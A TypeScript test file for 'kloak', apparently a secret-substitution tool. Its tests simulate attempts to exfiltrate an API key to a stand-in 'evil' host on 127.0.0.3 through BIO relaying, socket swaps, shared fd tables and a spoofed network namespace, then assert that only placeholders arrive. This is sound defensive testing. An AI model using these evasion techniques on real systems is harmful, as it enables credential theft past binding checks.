/**
 * Attacks from inside the tree on where the ciphertext goes (threat model B,
 * docs/policy.md section 5): the binding must follow the ciphertext. Each test
 * runs the attack through libssl's own API (test/support/ossl_client.py) on
 * this kernel, against real TLS servers, and asserts what each server received
 * and what kloak reported. API_KEY may go to 127.0.0.1 only.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { createServer, type Server, type Socket } from "node:net";
import { startTlsServer, type TlsServer } from "../support/tls-server.ts";
import { attack, connectSteps, count, fakeSecret } from "./attack.ts";

let allowed: TlsServer; // 127.0.0.1: the secret may go here
let evil: TlsServer; // 127.0.0.3: it may not
let sink: Server; // 127.0.0.3: raw TCP, records ciphertext
let sinkBytes: Buffer[] = [];

beforeAll(async () => {
  allowed = await startTlsServer({ host: "127.0.0.1" });
  evil = await startTlsServer({ host: "127.0.0.3" });
  sink = createServer((s: Socket) => s.on("data", (d: Buffer) => sinkBytes.push(d)).on("error", () => {}));
  await new Promise<void>((r) => sink.listen(0, "127.0.0.3", r));
});
afterAll(async () => {
  await allowed.close();
  await evil.close();
  sink.close();
});
beforeEach(() => {
  allowed.reset();
  evil.reset();
  sinkBytes = [];
});
const sinkPort = () => (sink.address() as { port: number }).port;

describe("the binding follows the ciphertext", () => {
  test("control: SSL_set_fd to the allowed host, handshake, write: substituted, the buffer restored", async () => {
    const secret = fakeSecret(32);
    const r = await attack({
      secret,
      allow: ["127.0.0.1"],
      steps: [...connectSteps("c", "127.0.0.1", allowed.port, null), { op: "buffer", id: "b" }, { op: "write", id: "c", buf: "b" }, { op: "check", buf: "b" }, { op: "read", id: "c" }],
    });
    expect(r.code).toBe(0);
    expect(count(allowed.received(), secret)).toEqual({ values: 2, placeholders: 0 });
    expect(r.out.BUF_B).toEqual(["placeholder"]);
  });

  test("SSL_set_fd to the allowed host, then memory BIOs and a handshake relayed to another host: never substituted", async () => {
    const secret = fakeSecret(32);
    const r = await attack({
      secret,
      allow: ["127.0.0.1"],
      steps: [
        { op: "tcp", id: "good", host: "127.0.0.1", port: allowed.port },
        { op: "tcp", id: "bad", host: "127.0.0.3", port: evil.port },
        { op: "ssl", id: "c" },
        { op: "set_fd", id: "c", sock: "good" },
        { op: "mem_bio", id: "c" },
        { op: "mem_handshake", id: "c", sock: "bad" },
        { op: "buffer", id: "b" },
        { op: "write", id: "c", buf: "b" },
        { op: "relay", id: "c", sock: "bad" },
        { op: "check", buf: "b" },
        { op: "sleep", s: 0.2 },
      ],
    });
    expect(r.code).toBe(0);
    // The other host decrypted the write: it holds the placeholder, never the value.
    expect(count(evil.received(), secret)).toEqual({ values: 0, placeholders: 2 });
    expect(count(allowed.received(), secret).values).toBe(0);
    expect(r.out.BUF_B).toEqual(["placeholder"]);
    expect(r.stderr).toMatch(/refused 2x: secret API_KEY to unknown destination: binding_changed/);
  });

  test("handshake with the allowed host, then SSL_set_bio to a socket BIO on another host: never substituted", async () => {
    const secret = fakeSecret(32);
    const r = await attack({
      secret,
      allow: ["127.0.0.1"],
      steps: [
        ...connectSteps("c", "127.0.0.1", allowed.port, null),
        { op: "tcp", id: "bad", host: "127.0.0.3", port: sinkPort() },
        { op: "socket_bio", id: "c", sock: "bad" },
        { op: "buffer", id: "b" },
        { op: "write", id: "c", buf: "b" },
        { op: "check", buf: "b" },
        { op: "sleep", s: 0.2 },
      ],
    });
    expect(r.code).toBe(0);
    expect(Buffer.concat(sinkBytes).length).toBeGreaterThan(0); // the ciphertext went there
    expect(r.stderr).toMatch(/0 substitution\(s\) in 1 TLS write\(s\)/);
    expect(r.stderr).toMatch(/refused 2x: secret API_KEY to unknown destination: binding_changed/);
    expect(r.out.BUF_B).toEqual(["placeholder"]);
  });

  test("a process sharing the fd table (clone CLONE_FILES) could swap the socket under the fd: never substituted", async () => {
    const secret = fakeSecret(32);
    const r = await attack({
      secret,
      allow: ["127.0.0.1"],
      steps: [
        ...connectSteps("c", "127.0.0.1", allowed.port, null),
        { op: "share_fds" },
        { op: "buffer", id: "b" },
        { op: "write", id: "c", buf: "b" },
        { op: "read", id: "c" },
      ],
    });
    expect(r.code).toBe(0);
    expect(r.out.SHARED_WITH?.length).toBe(1);
    expect(count(allowed.received(), secret)).toEqual({ values: 0, placeholders: 2 });
    expect(r.stderr).toMatch(/refused 2x: secret API_KEY to unknown destination: shared_fd_table/);
  });

  test("a network namespace of its own (unshare -Urn) whose loopback serves the allowed address and port: never substituted", async () => {
    const secret = fakeSecret(32);
    const port = allowed.port;
    // Inside the new namespace a TLS server of the tree's own listens on 127.0.0.1:<the allowed port>.
    const server = `import socket,ssl,sys,os
ctx=ssl.create_default_context(ssl.Purpose.CLIENT_AUTH); ctx.load_cert_chain(os.environ["KLOAK_TEST_CERT"], os.environ["KLOAK_TEST_KEY"])
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", ${port})); s.listen(1)
open(os.environ["KLOAK_TEST_OUT"] + ".up","w").close()
c,_=s.accept(); t=ctx.wrap_socket(c, server_side=True); data=b""
while b"k=" not in data:
  d=t.recv(65536)
  if not d: break
  data+=d
open(os.environ["KLOAK_TEST_OUT"],"wb").write(data)`;
    const { testCerts } = await import("../support/certs.ts");
    const certs = await testCerts();
    const outFile = `${certs.dir}/netns-received`;
    const { pythonPath } = await import("../support/clients.ts");
    const { OSSL_CLIENT } = await import("./attack.ts");
    const steps = JSON.stringify([...connectSteps("c", "127.0.0.1", port, null), { op: "buffer", id: "b" }, { op: "write", id: "c", buf: "b" }, { op: "sleep", s: 0.3 }]);
    const q = (s: string) => `'${s.replaceAll("'", `'\\''`)}'`;
    const script =
      `ip link set lo up && (${q(pythonPath())} -c ${q(server)} & ) && while [ ! -e ${q(outFile)}.up ]; do sleep 0.1; done && ` +
      `${q(pythonPath())} ${q(OSSL_CLIENT)} ${q(steps)}`;
    const r = await attack({
      secret,
      allow: [`127.0.0.1:${port}`],
      steps: [],
      env: { KLOAK_TEST_CERT: certs.certFile, KLOAK_TEST_KEY: certs.keyFile, KLOAK_TEST_OUT: outFile },
      wrap: ["unshare", "-Urn", "sh", "-c", `${script}; while [ ! -e ${q(outFile)} ]; do sleep 0.1; done #`],
    });
    expect(r.code).toBe(0);
    const got = await Bun.file(outFile).bytes();
    expect(count(Buffer.from(got), secret)).toEqual({ values: 0, placeholders: 2 });
    expect(count(allowed.received(), secret).values).toBe(0);
    expect(r.stderr).toMatch(/refused 2x: secret API_KEY to 127\.0\.0\.1:\d+: foreign_netns|refused 2x: secret API_KEY to unknown destination: foreign_netns/);
  });

  test("--strict-binding: a connection that writes through the app's own BIO is refused (app_bio)", async () => {
    const secret = fakeSecret(32);
    const steps = [
      { op: "tcp", id: "t", host: "127.0.0.1", port: allowed.port },
      { op: "ssl", id: "c" },
      { op: "app_bio", id: "c", sock: "t", during_write: "none" },
      { op: "connect", id: "c" },
      { op: "buffer", id: "b" },
      { op: "write", id: "c", buf: "b" },
      { op: "read", id: "c" },
    ];
    const lax = await attack({ secret, allow: ["127.0.0.1"], steps });
    expect(lax.code).toBe(0);
    expect(count(allowed.received(), secret)).toEqual({ values: 2, placeholders: 0 }); // bound by its sends
    allowed.reset();
    const strict = await attack({ secret, allow: ["127.0.0.1"], steps, flags: ["--strict-binding"] });
    expect(strict.code).toBe(0);
    expect(count(allowed.received(), secret)).toEqual({ values: 0, placeholders: 2 });
    expect(strict.stderr).toMatch(/: app_bio \(strict binding/);
  });
});
